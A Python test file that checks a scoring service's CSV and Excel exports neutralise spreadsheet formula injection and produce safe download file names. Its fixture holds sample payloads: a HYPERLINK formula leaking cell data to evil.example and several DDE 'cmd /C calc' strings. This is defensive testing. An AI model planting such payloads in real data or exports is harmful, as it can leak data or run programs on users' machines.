"""Exports people open in spreadsheet programs: nothing in them runs, and any code downloads."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

from openpyxl import load_workbook

from scoring_service.cli import main
from tests.helpers.api import Api, api_fixture  # noqa: F401
from tests.helpers.bundles import spec_bundle

Y = "/api/v1/years/2018"
# Free text as inspectors' and other systems' records may hold it: each would be a live
# formula (a link, a program started through DDE) if a spreadsheet read it as one.
HOSTILE = {
    "county": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "town": "+cmd|' /C calc'!A0",
    "helping_unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "group": "-2+3+cmd|' /C calc'!A0",
    "description_1": "=cmd|' /C calc'!A0",
    "description_2": "\t=1+1 教育补助",
    "finding": "-1+1",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_bundle() -> dict[str, Any]:
    """The spec's example with names, descriptions and a code that start like formulas."""
    bundle = spec_bundle()
    names = {"441624": "county", "441624101": "town", "SZ-NS-001": "helping_unit"}
    for unit in bundle["units"]:
        if unit["code"] in names:
            unit["name"] = HOSTILE[names[unit["code"]]]
    bundle["groups"][0]["name"] = HOSTILE["group"]
    first, second = bundle["inspections"][0]["findings"]
    first["description"] = HOSTILE["description_1"]
    second["description"] = HOSTILE["description_2"]
    old = second["code"]
    second["code"] = HOSTILE["finding"]
    for event in bundle["events"]:
        if event["finding"] == old:
            event["finding"] = HOSTILE["finding"]
    return bundle


def cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_is_inert(rows: list[list[str]], expected: set[str]) -> None:
    """No cell starts like a formula; each hostile text is there behind an apostrophe."""
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(STARTS)]
    assert expected <= {c.removeprefix("'") for c in cells if c.startswith("'")}


def assert_xlsx_is_inert(
    data: bytes, expected: set[str], sheet: str | None = None
) -> list[list[Any]]:
    """No formula anywhere in the workbook; each hostile text is a plain string cell. The
    values of ``sheet`` (default: the first) are returned."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets_xml = [
            book.read(name).decode()
            for name in book.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]
    assert sheets_xml
    assert not [x for x in sheets_xml if "<f>" in x or "<f " in x]
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for ws in workbook for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {e for e in expected if not any(e in str(t) for t in texts)} == set()
    assert all(c.data_type == "s" for c in cells if str(c.value).startswith(STARTS))
    chosen = workbook[sheet] if sheet else workbook.worksheets[0]
    return [[c.value for c in row] for row in chosen.iter_rows()]


def test_exports_of_hostile_names_and_descriptions_cannot_run_code(
    api: Api, db_url: str, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(hostile_bundle(), ensure_ascii=False), encoding="utf-8")
    assert cli("--db", db_url, "import", str(path))[0] == 0
    names = {HOSTILE["county"], HOSTILE["town"], HOSTILE["helping_unit"]}

    # The command line's CSV of scores.
    code, out, _ = cli("--db", db_url, "score", "--year", "2018", "--format", "csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert_csv_is_inert(rows, names)
    by_code = {r[2]: r for r in rows[1:]}
    county = by_code["441624"]
    assert county[3] == "'" + HOSTILE["county"]
    # Numbers stay numbers: rank, counts, rate, points and score as written.
    assert county[1].isdigit() and float(county[9]) <= 1 and float(county[12]) > 0

    # The API's score downloads.
    response = api.get(f"{Y}/scores?format=csv")
    assert response.status_code == 200
    assert_csv_is_inert(csv_rows(response.data), names)
    response = api.get(f"{Y}/scores?format=xlsx")
    assert response.status_code == 200
    values = assert_xlsx_is_inert(response.data, names, "县区")
    county_row = next(r for r in values[2:] if r[2] == "441624")
    assert county_row[3] == HOSTILE["county"]
    assert isinstance(county_row[1], int) and isinstance(county_row[12], int | float)

    # The API's problem list downloads: unit names, descriptions, the group in the title.
    url = f"{Y}/inspections/2018-G1-07/problems"
    texts = names | {HOSTILE["description_1"], HOSTILE["description_2"], HOSTILE["finding"]}
    response = api.get(f"{url}?format=csv")
    assert response.status_code == 200
    rows = csv_rows(response.data)
    assert_csv_is_inert(rows, texts - {HOSTILE["county"]})
    # Findings are listed by code: the one coded "-1+1" comes first.
    assert rows[1][1] == "'" + HOSTILE["finding"] and rows[1][7] == "'" + HOSTILE["description_2"]
    assert rows[1][0] == "1"
    response = api.get(f"{url}?format=xlsx")
    assert response.status_code == 200
    values = assert_xlsx_is_inert(response.data, texts | {HOSTILE["group"]})
    assert values[0][0].startswith(HOSTILE["county"])
    assert values[2][1] == HOSTILE["finding"] and values[2][7] == HOSTILE["description_2"]
    assert values[2][0] == 1


def utf8_name(header: str) -> str:
    """The file name of RFC 6266's ``filename*=UTF-8''...``, as browsers read it."""
    match = re.search(r"; filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+)$", header)
    assert match is not None, header
    return unquote(match.group(1), errors="strict")


def test_downloads_of_any_code_carry_an_ascii_and_a_utf8_file_name(api: Api) -> None:
    code = '检查-"1";\\%'
    bundle = spec_bundle()
    bundle["inspections"][0]["code"] = code
    api.load(bundle)
    for fmt in ("csv", "xlsx"):
        response = api.get(f"{Y}/inspections/{quote(code, safe='')}/problems?format={fmt}")
        assert response.status_code == 200, response.get_data(as_text=True)
        header = response.headers["Content-Disposition"]
        assert header.isascii() and "\r" not in header and "\n" not in header
        # The quoted name holds no quote, backslash or percent sign to end or escape it.
        assert f'attachment; filename="problems-_-_1_;__.{fmt}"; ' in header
        assert utf8_name(header) == f"问题清单-{code}.{fmt}"
    response = api.get(f"{Y}/scores?format=csv&as_of=2018-12-31")
    assert response.status_code == 200
    header = response.headers["Content-Disposition"]
    assert header.startswith('attachment; filename="scores-2018-2018-12-31.csv"; ')
    assert utf8_name(header) == "考核评分-2018-2018-12-31.csv"
